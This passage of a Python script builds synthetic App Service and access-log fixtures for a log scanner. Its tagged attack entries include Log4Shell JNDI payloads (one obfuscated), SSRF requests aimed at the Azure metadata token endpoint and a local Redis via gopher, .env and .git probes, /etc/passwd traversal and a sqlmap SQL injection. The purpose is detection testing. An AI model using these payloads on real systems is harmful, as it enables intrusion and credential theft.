               "resourceId": rid, "category": "AppServiceHTTPLogs",
               "operationName": "Microsoft.Web/sites/log", "properties": props}
        seq[0] += 1
        rows.append((t, seq[0], ip, json.dumps(rec, separators=(",", ":")), tag))

    start = dt.datetime(2026, 11, 16, 7, 0, 11)
    end = dt.datetime(2026, 11, 16, 9, 0, 0)
    api_ua = ["okhttp/4.12.0", "HollowOak/3.2.1 (iPhone; iOS 18.1; Scale/3.00)", "HollowOak/3.2.1 CFNetwork/1568.200.51 Darwin/24.1.0",
              "Dart/3.5 (dart:io)", CHROME_WIN, SAFARI_IPHONE]
    calls = [("GET", "/api/v2/products", "page=1&size=20", 200), ("GET", "/api/v2/products/412", "", 200),
             ("GET", "/api/v2/products/88", "", 200), ("GET", "/api/v2/cart", "", 200), ("POST", "/api/v2/cart/items", "", 201),
             ("GET", "/api/v2/stores/nearby", "lat=51.4545&lon=-2.5879", 200), ("POST", "/api/v2/auth/token", "", 200),
             ("GET", "/api/v2/orders", "status=open", 200), ("GET", "/api/v2/products/999", "", 404),
             ("GET", "/api/v2/orders", "", 401)]
    t = start
    while t < end:
        ip = R.choice(["198.51.100.", "192.0.2."]) + str(R.randint(20, 250))
        m, s, q, st = R.choice(calls)
        add(t, m, s, q, ip, R.choice(api_ua), st)
        t += dt.timedelta(seconds=R.randint(40, 110))
    t = start
    while t < end:
        add(t, "GET", "/robots933456.txt", "", "169.254.130.1", "-", 404, taken=1)  # App Service's own warm-up probe
        t += dt.timedelta(minutes=15)

    x = "203.0.113.150"
    t = dt.datetime(2026, 11, 16, 7, 48, 3)
    for m, s, q, ua, st in [
            ("GET", "/.env", "", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", 404),
            ("GET", "/api/.env", "", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", 404),
            ("GET", "/.env.local", "", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", 404),
            ("GET", "/.git/HEAD", "", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", 404),
            ("GET", "/appsettings.json", "", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", 404),
            ("GET", "/api/v2/products", "page=1", "${jndi:ldap://203.0.113.150:1389/Exploit}", 200),
            ("GET", "/api/v2/products", "q=%24%7Bjndi%3Adns%3A%2F%2F203.0.113.150%2Fx%7D", "okhttp/4.12.0", 200),
            ("POST", "/api/v2/auth/token", "", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.150:1389/p}", 400),
            ("GET", "/api/v2/image-proxy", "url=http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", "python-requests/2.32.3", 400),
            ("GET", "/api/v2/image-proxy", "url=http%3A%2F%2F169.254.169.254%2Fmetadata%2Finstance%3Fapi-version%3D2021-02-01", "python-requests/2.32.3", 200),
            ("GET", "/api/v2/image-proxy", "url=http://localhost:8081/admin", "python-requests/2.32.3", 502),
            ("GET", "/api/v2/image-proxy", "url=gopher://127.0.0.1:6379/_INFO", "python-requests/2.32.3", 400)]:
        add(t, m, s, q, x, ua, st, tag="X-attack", sc=(12477 if (st == 200 and "169.254" in q) else None))
        t += dt.timedelta(seconds=R.randint(2, 25))
    add(dt.datetime(2026, 11, 16, 7, 15, 0), "GET", "/This_Will_Generate_Vigil_Alert", "", "198.51.100.10", "curl/8.5.0", 404, tag="owner-test")

    rows.sort(key=lambda e: (e[0], e[1]))
    path = os.path.join(HERE, "appservice", "AppServiceHTTPLogs.json")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="ascii", newline="\n") as f:
        for r in rows:
            f.write(r[3] + "\n")
    report("appservice/AppServiceHTTPLogs.json", rows)


# ----------------------------------------------------------------------------------------------
# Bad input: a mix of broken lines, and a gzip cut off mid-stream
# ----------------------------------------------------------------------------------------------
def good_line(i, t, path="/shop/", status=200, size=61877, ua=CHROME_WIN, ip=None):
    ip = ip or "198.51.100." + str(40 + i % 200)
    return f'{ip} - - [{clf_time(t)}] "GET {path} HTTP/1.1" {status} {size} "-" "{ua}"'.encode("ascii")


def make_bad():
    t = dt.datetime(2026, 11, 17, 12, 0, 0)
    s = lambda k: t + dt.timedelta(seconds=k * 7)
    L = []
    L.append(good_line(1, s(1)) + b"\n")
    L.append(good_line(2, s(2), "/product/house-espresso-1kg/") + b"\r\n")                        # CRLF
    L.append(good_line(3, s(3), "/This_Will_Generate_Vigil_Alert", 404, 12077, "curl/8.5.0", "198.51.100.10") + b"\n")
    L.append(good_line(4, s(4))[:71] + b"\n")                                                     # truncated mid-field
    L.append(bytes(R.randrange(1, 256) for _ in range(90)).replace(b"\n", b"\x07").replace(b"\r", b"\x07") + b"\n")  # binary junk
    L.append(good_line(6, s(6), "/blog/") + b"\r\n")                                              # CRLF
    L.append(b'198.51.100.77 - - [' + clf_time(s(7)).encode() + b'] "GET /?s=caf\xe9 HTTP/1.1" 200 26011 "-" "Mozilla/5.0 \xff\xfe\xc0\xaf (X11)"\n')  # invalid UTF-8
    L.append(b'198.51.100.78 - - [' + clf_time(s(8)).encode() + b'] "GET /cart/\x00.php HTTP/1.1" 404 12077 "-" "curl/8.5.0"\n')  # NUL
    L.append(good_line(9, s(9), "/?s=" + "A" * 70000, 414, 173) + b"\n")                          # > 70,000 bytes
    L.append(b"\n")                                                                               # empty line
    L.append(good_line(11, s(11), "/etc/../../etc/passwd", 400, 157, "curl/8.5.0", "203.0.113.45") + b"\n")
    L.append(b'198.51.100.81 - - [31/Nov/2026:12:01:24 +0000] "GET / HTTP/1.1" 200 48211 "-" "-"\n')  # impossible date
    L.append(b'198.51.100.82 - - [17/Nov/2026:12:01:31 +0000] "GET / HTTP/1.1" abc 48211 "-" "-"\n')  # non-numeric status
    L.append(good_line(14, s(14), "/about/") + b"\r\n")
    L.append(b'not a log line at all, just text someone pasted\n')
    L.append(good_line(16, s(16), "/contact/") + b"\n")
    L.append(b'198.51.100.86 - - [17/Nov/2026:12:01:59 +0000] "GET /\xe2\x82 HTTP/1.1" 404 12077 "-" "-"\n')  # cut UTF-8 sequence
    L.append(b"\r\n")
    L.append(good_line(19, s(19), "/?id=1%27%20UNION%20SELECT%20user_pass%20FROM%20wp_users--", 200, 26011, "sqlmap/1.8.11#stable (https://sqlmap.org)", "203.0.113.45") + b"\n")
    L.append(good_line(20, s(20), "/product-category/beans/") + b"\r\n")
    L.append(good_line(21, s(21), "/shop/"))                                                      # no final newline
    os.makedirs(os.path.join(HERE, "bad"), exist_ok=True)
    with open(os.path.join(HERE, "bad", "mixed.log"), "wb") as f:
        f.write(b"".join(L))

    # a truncated gzip is built by the tests instead (a scan of it exits 3, and samples/ must scan with 0)
    print(f"bad/mixed.log: {len(L)} lines")


if __name__ == "__main__":
    make_nginx()
    make_iis()
    make_appservice()
    make_bad()
